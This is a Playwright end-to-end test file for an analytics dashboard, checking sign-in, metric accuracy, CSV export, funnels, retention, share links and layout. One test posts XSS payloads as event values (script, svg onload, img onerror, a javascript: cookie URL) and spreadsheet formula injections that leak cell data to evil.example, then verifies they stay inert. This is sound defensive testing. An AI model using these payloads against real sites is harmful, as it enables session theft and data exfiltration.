import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from './support/browser.js';
import { REPO_ROOT, startCollector, type CollectorProcess } from './support/collector-process.js';
import { apiGet, E2E_DASH_KEY, generateDataset, metricText, signIn } from './support/dashboard.js';
import { freePort } from './support/ports.js';

let collector: CollectorProcess;
let browser: Browser;
let dataDir: string;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'tally-dash-e2e-'));
  generateDataset(dataDir, { days: 45, eventsPerDay: 600, users: 300 });
  collector = await startCollector({ port: await freePort(), dataDir, env: { TALLY_DASH_KEY: E2E_DASH_KEY } });
  browser = await launchChromium();
});
afterEach(async () => {
  await Promise.all(contexts.splice(0).map((c) => c.close().catch(() => {})));
});
afterAll(async () => {
  await browser?.close().catch(() => {});
  await collector?.stop();
  if (dataDir) await rm(dataDir, { recursive: true, force: true });
});

/** A page in a fresh context that records every request, dialog and page error. */
async function newPage(viewport = { width: 1280, height: 900 }) {
  const context = await browser.newContext({ viewport, acceptDownloads: true });
  contexts.push(context);
  const page = await context.newPage();
  const requests: string[] = [];
  const dialogs: string[] = [];
  const errors: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => errors.push(String(e)));
  return { page, requests, dialogs, errors };
}

async function cardsEqualApi(page: Page, query: string) {
  const u = await apiGet(collector.url, `usage?${query}`);
  expect(await metricText(page, 'dau')).toBe(u.dau);
  expect(await metricText(page, 'wau')).toBe(u.wau);
  expect(await metricText(page, 'mau')).toBe(u.mau);
  expect(await metricText(page, 'events')).toBe(u.total_events);
  return u;
}

describe('dashboard in Chromium', () => {
  it('refuses a wrong key with a clear message and shows no data', async () => {
    const { page } = await newPage();
    await signIn(page, collector.url, 'this-is-not-the-key-0000');
    await expect.poll(() => page.locator('#sign-in-error').innerText()).toMatch(/not this collector’s dashboard key/);
    expect(await page.locator('[data-metric]').count()).toBe(0);
    const res = await page.request.get(`${collector.url}/api/analytics/usage`);
    expect(res.status()).toBe(401);
  });

  it('signs in; the cards equal the API; range and filter changes follow in the URL and the numbers', async () => {
    const { page, errors } = await newPage();
    const res = await page.goto(`${collector.url}/dashboard`);
    expect(res!.headers()['content-security-policy']).toMatch(/default-src 'self'.*frame-ancestors 'none'/);
    await signIn(page, collector.url);
    await page.locator('[data-metric="mau"]').waitFor();
    const { today } = await apiGet(collector.url, 'info');
    await cardsEqualApi(page, `days=30&to=${today}`);
    // The cookie holds the session; the key is nowhere the page's script can read.
    expect(await page.evaluate(() => document.cookie)).toBe('');
    expect(await page.evaluate(() => JSON.stringify(localStorage) + JSON.stringify(sessionStorage))).not.toContain(E2E_DASH_KEY);

    await page.click('button[data-range="7d"]');
    await expect.poll(() => page.url()).toContain('range=7d');
    await page.locator('[data-table="platform"]').waitFor();
    await cardsEqualApi(page, `days=7&to=${today}`);

    // A click on a breakdown row filters the whole view.
    const row = page.locator('[data-table="platform"] tbody tr').first().locator('button.row-filter');
    const platform = await row.innerText();
    await row.click();
    await expect.poll(() => page.url()).toContain(`platform=${encodeURIComponent(platform)}`);
    await page.locator(`[data-filter="platform"]`).waitFor();
    await page.locator('[data-table="platform"]').waitFor();
    await cardsEqualApi(page, `days=7&to=${today}&platform=${encodeURIComponent(platform)}`);

    // The same URL opened fresh (bookmark) shows the same view.
    const bookmarked = page.url();
    await page.goto(bookmarked);
    await page.locator('[data-metric="events"]').waitFor();
    await cardsEqualApi(page, `days=7&to=${today}&platform=${encodeURIComponent(platform)}`);
    expect(errors).toEqual([]);
  });

  it('downloads a table’s CSV with the same rows as the API', async () => {
    const { page } = await newPage();
    await signIn(page, collector.url, E2E_DASH_KEY, '/dashboard?range=30d');
    const { today } = await apiGet(collector.url, 'info');
    const link = page.locator('[data-table="feature"]').locator('xpath=ancestor::section[1]').locator('a.csv');
    await page.locator('[data-table="feature"]').waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
    const file = await download.path();
    const { readFile } = await import('node:fs/promises');
    const csv = await readFile(file!, 'utf8');
    const from = new Date(Date.parse(`${today}T00:00:00Z`) - 29 * 86_400_000).toISOString().slice(0, 10);
    const api = await fetch(`${collector.url}/api/analytics/breakdown?by=feature&from=${from}&to=${today}&format=csv`, { headers: { 'x-dash-key': E2E_DASH_KEY } });
    expect(csv).toBe(await api.text());
    expect(csv.split('\r\n')[0]).toBe('feature,events,users');
  });

  it('builds a two-step funnel whose numbers equal /api/analytics/funnel', async () => {
    const { page } = await newPage();
    await signIn(page, collector.url, E2E_DASH_KEY, '/dashboard/funnels');
    await page.locator('.step-input').first().fill('page_view');
    await page.locator('.step-input').nth(1).fill('action');
    await page.click('.funnel-form button[type=submit]');
    await expect.poll(() => page.url()).toContain('steps=page_view%2Caction');
    await page.locator('[data-table="funnel"]').waitFor();
    const { today } = await apiGet(collector.url, 'info');
    const from = new Date(Date.parse(`${today}T00:00:00Z`) - 29 * 86_400_000).toISOString().slice(0, 10);
    const api = await apiGet(collector.url, `funnel?steps=page_view,action&within=7d&from=${from}&to=${today}`);
    const shown = await page.locator('[data-table="funnel"] td[data-users]').evaluateAll((tds) => tds.map((td) => Number(td.getAttribute('data-users'))));
    expect(shown).toEqual(api.steps.map((s: { users: number }) => s.users));
    expect(shown[0]).toBeGreaterThan(0);
  });

  it('renders attacker-controlled event values as inert text in every view', async () => {
    const payloads = {
      feature: '<img src=x onerror=alert(1)>',
      url: 'javascript:alert(document.cookie)',
      metadata: { note: '"><script>alert(2)</script>', formula: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
    };
    const now = new Date().toISOString();
    const post = await fetch(`${collector.url}/v1/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        app: '"><svg onload=alert(3)>',
        events: [
          { event_type: 'action', ts: now, user_id: 'xss-user', feature: payloads.feature, url: payloads.url, metadata: payloads.metadata, context: { platform: '<b>bold</b>', app_version: '=1+2' } },
          { event_type: 'page_view', ts: now, user_id: 'xss-user', feature: '=HYPERLINK("http://evil.example","x")', url: 'https://ok.example/"><script>alert(4)</script>' },
        ],
      }),
    });
    expect(post.status).toBe(200);

    const { page, requests, dialogs, errors } = await newPage();
    // Filtered by the payload app, the payload rows are the only ones: every table shows them.
    await signIn(page, collector.url, E2E_DASH_KEY, `/dashboard?range=today&app=${encodeURIComponent('"><svg onload=alert(3)>')}`);
    await page.locator('[data-table="feature"]').waitFor();
    await page.locator('[data-table="app"]').waitFor();
    await expect.poll(() => page.locator('[data-table="feature"]').innerText()).toContain(payloads.feature);
    expect(await page.locator('[data-table="url"]').innerText()).toContain(payloads.url);
    expect(await page.locator('[data-table="platform"]').innerText()).toContain('<b>bold</b>');
    expect(await page.locator('[data-filter="app"]').innerText()).toContain('"><svg onload=alert(3)>');
    expect(await metricText(page, 'events')).toBe(2);
    // The table's CSV link (the API's CSV) neutralises the formula: the cell starts with '.
    const csvHref = await page.locator('[data-table="feature"]').locator('xpath=ancestor::section[1]').locator('a.csv').getAttribute('href');
    const csv = await (await page.request.get(`${collector.url}${csvHref}`)).text();
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    for (const path of ['/dashboard/realtime', '/dashboard/funnels?steps=action,page_view&range=today', '/dashboard/retention?range=today', '/dashboard/completeness']) {
      await page.goto(`${collector.url}${path}`);
      await page.locator('#view .panel').first().waitFor();
      await page.waitForLoadState('networkidle');
    }
    await page.goto(`${collector.url}/dashboard/realtime`);
    await expect.poll(() => page.locator('[data-table="latest"]').innerText(), { timeout: 15_000 }).toContain(payloads.feature);
    expect(await page.locator('[data-table="latest"]').innerText()).toContain(payloads.url);
    // A javascript: URL is never a link; an http(s) URL may be, but stays text inside it.
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
    // Nothing was parsed as markup: no element from the payloads exists anywhere in the page.
    expect(await page.locator('#root img, #root svg:not(.u-svg), #root script, #root b').count()).toBe(0);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    const origin = new URL(collector.url).origin;
    expect(requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:'))).toEqual([]);
  });

  it('shows a freshly posted event on the realtime view', async () => {
    const { page } = await newPage();
    await signIn(page, collector.url, E2E_DASH_KEY, '/dashboard/realtime');
    await page.locator('[data-metric="realtime_events"]').waitFor();
    const feature = `fresh-${Date.now()}`;
    const res = await fetch(`${collector.url}/v1/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ app: 'e2e', events: [{ event_type: 'action', ts: new Date().toISOString(), anonymous_id: 'rt-1', feature }] }),
    });
    expect(res.status).toBe(200);
    // The view polls every 5 s; the wait allows for a loaded machine, the poll period is what users get.
    await expect.poll(() => page.locator('[data-table="latest"]').innerText(), { timeout: 15_000, interval: 250 }).toContain(feature);
  });

  it('a share link opens its view read-only and gets 401/403 on erasure and on share links', async () => {
    const res = await fetch(`${collector.url}/dashboard/api/shares`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-dash-key': E2E_DASH_KEY },
      body: JSON.stringify({ view: 'overview', query: 'range=7d', expires_days: 7 }),
    });
    expect(res.status).toBe(201);
    const { url } = (await res.json()) as { url: string };
    const { page } = await newPage();
    await page.goto(url);
    await page.locator('[data-metric="mau"]').waitFor();
    // The token left the address bar.
    expect(page.url()).toBe(`${collector.url}/dashboard?range=7d`);
    expect(await page.locator('.badge').innerText()).toContain('read-only');
    const { today } = await apiGet(collector.url, 'info');
    await cardsEqualApi(page, `days=7&to=${today}`);
    const statuses = await page.evaluate(async () => {
      const json = { 'content-type': 'application/json' };
      return [
        (await fetch('/api/analytics/users/someone', { method: 'DELETE' })).status,
        (await fetch('/api/analytics/users/someone/export')).status,
        (await fetch('/api/analytics/retention')).status,
        (await fetch('/dashboard/api/shares')).status,
        (await fetch('/dashboard/api/shares', { method: 'POST', headers: json, body: '{"view":"overview"}' })).status,
      ];
    });
    expect(statuses).toEqual([401, 401, 401, 403, 403]);
  });

  it('shows completeness per app and per day from the ledger, equal to the API', async () => {
    const { page } = await newPage();
    await signIn(page, collector.url, E2E_DASH_KEY, '/dashboard/completeness');
    await page.locator('[data-table="completeness_app"]').waitFor();
    const api = await apiGet(collector.url, 'completeness?days=30&app=e2e');
    const accepted = api.days.reduce((s: number, d: { accepted: number }) => s + d.accepted, 0);
    expect(accepted).toBeGreaterThan(0);
    const row = page.locator('[data-table="completeness_app"] tbody tr', { hasText: /^e2e/ });
    expect(Number((await row.locator('td').first().innerText()).replace(/[^\d]/g, ''))).toBe(accepted);
    await row.locator('button.row-filter').click();
    await expect.poll(() => page.url()).toContain('app=e2e');
    // The unfiltered view's figures stay on the page until the filtered answer is drawn.
    await expect.poll(() => metricText(page, 'accepted')).toBe(accepted);
  });

  it('draws the retention grid with the numbers of /api/analytics/retention, weekly and daily', async () => {
    const { page, errors } = await newPage();
    await signIn(page, collector.url, E2E_DASH_KEY, '/dashboard/retention?range=30d');
    for (const cohort of ['week', 'day'] as const) {
      if (cohort === 'day') {
        await page.getByRole('button', { name: 'Daily' }).click();
        await expect.poll(() => page.url()).toContain('cohort=day');
      }
      const grid = page.locator(`[data-table="retention"]`);
      await expect.poll(() => page.locator('.panel h2, .panel h3').first().innerText()).toContain(`by ${cohort}`);
      await grid.waitFor();
      // The view's own request, as its CSV link names it.
      const href = (await page.locator('a.csv').first().getAttribute('href'))!;
      const params = new URLSearchParams(href.slice(href.indexOf('?') + 1));
      params.delete('format');
      expect(params.get('cohort')).toBe(cohort);
      const api = await apiGet<{ cohorts: { cohort: string; size: number; active: (number | null)[]; retention: (number | null)[] }[] }>(collector.url, `retention?${params}`);
      expect(api.cohorts.length).toBeGreaterThan(1);
      const n = Math.max(...api.cohorts.map((c) => c.retention.length));
      const want = api.cohorts.map((c) => ({
        cohort: c.cohort,
        size: c.size,
        cells: Array.from({ length: n }, (_, k) => (c.retention[k] === null || c.retention[k] === undefined ? null : [c.active[k], c.retention[k]])),
      }));
      const shown = await grid.locator('tbody tr').evaluateAll((trs) =>
        trs.map((tr) => ({
          cohort: tr.getAttribute('data-cohort'),
          size: Number(tr.querySelector('[data-size]')!.getAttribute('data-size')),
          cells: [...tr.querySelectorAll('td.cell')].map((td) => (td.hasAttribute('data-active') ? [Number(td.getAttribute('data-active')), Number(td.getAttribute('data-retention'))] : null)),
        })),
      );
      expect(shown).toEqual(want);
      // Period 0 is the cohort itself: 100 %, shown as text in the cell.
      expect(await grid.locator('tbody tr').first().locator('td.cell').first().innerText()).toMatch(/100\s?%/);
    }
    expect(errors).toEqual([]);
  });

  it('a fresh collector shows the script tag for its own address and how to load sample data', async () => {
    const freshDir = await mkdtemp(join(tmpdir(), 'tally-dash-fresh-'));
    const fresh = await startCollector({ port: await freePort(), dataDir: freshDir, env: { TALLY_DASH_KEY: E2E_DASH_KEY } });
    try {
      const { page } = await newPage();
      await signIn(page, fresh.url);
      await page.locator('[data-empty]').waitFor();
      expect(await page.locator('#script-tag').innerText()).toBe(`<script defer src="${fresh.url}/sdk.js" data-endpoint="${fresh.url}" data-app="web"></script>`);
      expect(await page.locator('[data-empty]').innerText()).toContain('pnpm collector generate');
      // The demo at / links to the dashboard.
      await page.goto(`${fresh.url}/`);
      // (The demo tracks that click, so the collector is no longer empty: the view itself loads.)
      await page.locator(`a[href="${fresh.url}/dashboard"]`).first().click();
      await expect.poll(() => page.url()).toBe(`${fresh.url}/dashboard`);
      await page.locator('#view').waitFor();
    } finally {
      await fresh.stop();
      await rm(freshDir, { recursive: true, force: true });
    }
  });

  it('keeps screenshots of the overview at desktop size and at 390 px; no view is wider than 360 px, light or dark, with a 300-character URL', async () => {
    // A 300-character URL without a space (the rollup keeps its first 200) and a long feature name.
    const longUrl = `https://shop.example.com/${'a-very-long-path-segment-without-spaces-'.repeat(8)}`.slice(0, 300);
    const now = new Date().toISOString();
    const post = await fetch(`${collector.url}/v1/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ app: 'web', events: Array.from({ length: 60 }, (_, i) => ({ event_type: 'page_view', ts: now, user_id: `long-${i}`, url: longUrl, feature: `feature_${'x'.repeat(120)}` })) }),
    });
    expect(post.status).toBe(200);
    const dir = join(REPO_ROOT, 'e2e', 'artifacts');
    await mkdir(dir, { recursive: true });
    for (const [name, viewport, colorScheme] of [
      ['dashboard-desktop', { width: 1360, height: 1000 }, 'light'],
      ['dashboard-390', { width: 390, height: 844 }, 'light'],
      ['dashboard-desktop-dark', { width: 1360, height: 1000 }, 'dark'],
      ['dashboard-360-dark', { width: 360, height: 740 }, 'dark'],
    ] as const) {
      const context = await browser.newContext({ viewport, colorScheme });
      contexts.push(context);
      const page = await context.newPage();
      await signIn(page, collector.url, E2E_DASH_KEY, '/dashboard?range=30d');
      await page.locator('[data-table="app"]').waitFor();
      await page.locator('#main-chart .plot canvas').waitFor();
      // Dark mode follows prefers-color-scheme: the page background is dark only then.
      const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor.match(/\d+/g)!.slice(0, 3).map(Number));
      expect(bg.reduce((a, b) => a + b, 0) / 3 < 80, `${name}: background ${bg}`).toBe(colorScheme === 'dark');
      const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      expect(await overflow(), `${name}: no horizontal scroll`).toBeLessThanOrEqual(0);
      await page.screenshot({ path: join(dir, `${name}.png`) });
      // Today, the long URL is in the top 10 of its table.
      await page.goto(`${collector.url}/dashboard?range=today`);
      await expect.poll(() => page.locator('[data-table="url"]').innerText()).toContain(longUrl.slice(0, 40));
      expect(await overflow(), `${name} today: no horizontal scroll`).toBeLessThanOrEqual(0);
      if (viewport.width > 400) continue;
      for (const path of ['/dashboard/realtime', '/dashboard/funnels?steps=page_view,action', '/dashboard/retention', '/dashboard/completeness']) {
        await page.goto(`${collector.url}${path}`);
        await page.locator('#view .panel').first().waitFor();
        await page.waitForLoadState('networkidle');
        await page.locator('#view .loading-state').first().waitFor({ state: 'detached' });
        expect(await overflow(), `${name} ${path}: no horizontal scroll`).toBeLessThanOrEqual(0);
      }
    }
    // Four windows, two of them through every view: more than the default minute on a loaded machine.
  }, 300_000);

  it('is usable from the keyboard: range presets, a filter and a funnel', async () => {
    const { page, errors } = await newPage();
    await signIn(page, collector.url, E2E_DASH_KEY, '/dashboard?range=30d');
    await page.locator('[data-table="platform"]').waitFor();
    // Tab to the "7 days" preset and press Enter.
    const focusedText = () => page.evaluate(() => (document.activeElement as HTMLElement | null)?.innerText ?? '');
    for (let i = 0; i < 30 && (await focusedText()) !== '7 days'; i++) await page.keyboard.press('Tab');
    expect(await focusedText()).toBe('7 days');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.url()).toContain('range=7d');
    // Focus stays usable after the view re-renders: Tab on to the filter, type, Enter.
    for (let i = 0; i < 30 && !(await page.evaluate(() => document.activeElement?.classList.contains('filter-value'))); i++) await page.keyboard.press('Tab');
    await page.keyboard.type('ios');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.url()).toMatch(/[?&]feature=ios/);
    await page.locator('[data-filter="feature"]').waitFor();
    // A funnel: type two steps, submit with Enter.
    await page.goto(`${collector.url}/dashboard/funnels`);
    await page.locator('.step-input').first().focus();
    await page.keyboard.type('page_view');
    await page.keyboard.press('Tab');
    for (let i = 0; i < 5 && !(await page.evaluate(() => document.activeElement?.classList.contains('step-input'))); i++) await page.keyboard.press('Tab');
    await page.keyboard.type('action');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.url()).toContain('steps=page_view%2Caction');
    await page.locator('[data-table="funnel"]').waitFor();
    expect(errors).toEqual([]);
  });
});
